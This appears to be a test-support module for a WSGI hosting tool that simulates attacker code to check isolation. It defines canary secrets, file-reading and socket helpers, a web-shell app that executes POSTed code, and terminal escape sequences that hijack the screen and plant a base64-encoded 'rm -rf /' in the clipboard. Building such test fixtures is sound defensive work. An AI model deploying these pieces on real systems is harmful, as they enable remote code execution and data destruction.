# Copyright: (c) 2026, wsgiops contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Code that attackers run: the parts that several attacks share. Pure."""

from __future__ import annotations

import base64
import json
import urllib.parse

# Whoever finds one of these outside of its place has read what it must not.
ROOT_SECRET, SHOP_SECRET, SHOP_DATA = "root-canary-7f3a", "shop-secret-51c2", "shop-data-9b1e"
# A secret of the evil app itself, which looks different in every encoding.
EVIL_SECRET = "evil'token\"41 é%d0"
SECRET_FORMS = {
    "plain": EVIL_SECRET,
    "repr": repr(EVIL_SECRET)[1:-1],
    "JSON": json.dumps(EVIL_SECRET)[1:-1],
    "URL": urllib.parse.quote(EVIL_SECRET),
    "form": urllib.parse.quote_plus(EVIL_SECRET),
    "base64": base64.b64encode(EVIL_SECRET.encode()).decode(),
}
# Prints `GOT` with the loot, or `TRIED` with what stopped it.
PRELUDE = """
def attempt(what, steal):
    try:
        loot = steal()
    except BaseException as exc:
        print(f"TRIED {what}: {type(exc).__name__}", flush=True)
    else:
        print(f"GOT {what}: {str(loot)[:60]!r}" if loot else f"TRIED {what}: nothing", flush=True)


def read(path):
    with open(path, "rb") as stream:
        return stream.read(2000)


def connect(family, address, ask=b""):
    import socket

    with socket.socket(family) as connection:
        connection.settimeout(3)
        connection.connect(address)
        if ask:
            connection.sendall(ask)
            return connection.recv(200) or b"connected"
        return b"connected"

"""
WSGI = """
def app(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"fine"]
"""
# The compromised app: it runs what it is sent, and shows what nginx told it.
SHELL = """
import contextlib, io, json


def app(environ, start_response):
    if environ["PATH_INFO"] == "/headers":
        told = {name: value for name, value in environ.items() if isinstance(value, str)}
        body = json.dumps(told).encode()
    else:
        code = environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0)).decode()
        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            exec(code, {"__name__": "attack"})
        body = out.getvalue().encode()
    start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", str(len(body)))])
    return [body]
"""
SHOP = """
import os, sqlite3


def app(environ, start_response):
    if environ["PATH_INFO"] == "/row":
        with sqlite3.connect(os.environ["DATABASE"]) as database:
            body = database.execute("select text from goods").fetchone()[0].encode()
    else:
        body = b"shop"
    start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", str(len(body)))])
    return [body]
"""
# Clears the screen, sets the title, fills the clipboard, moves up and overwrites; as C0, C1 and bidirectional text.
SEQUENCES = "\\033]0;OWNED\\007\\033[2J\\033]52;c;cm0gLXJmIC8=\\007\\033[1A\\r\\u009b2J\\u202eevil"


def python(code: str) -> str:
    """A script for an attacker's file."""
    return f"{PRELUDE}\n{code}\n"
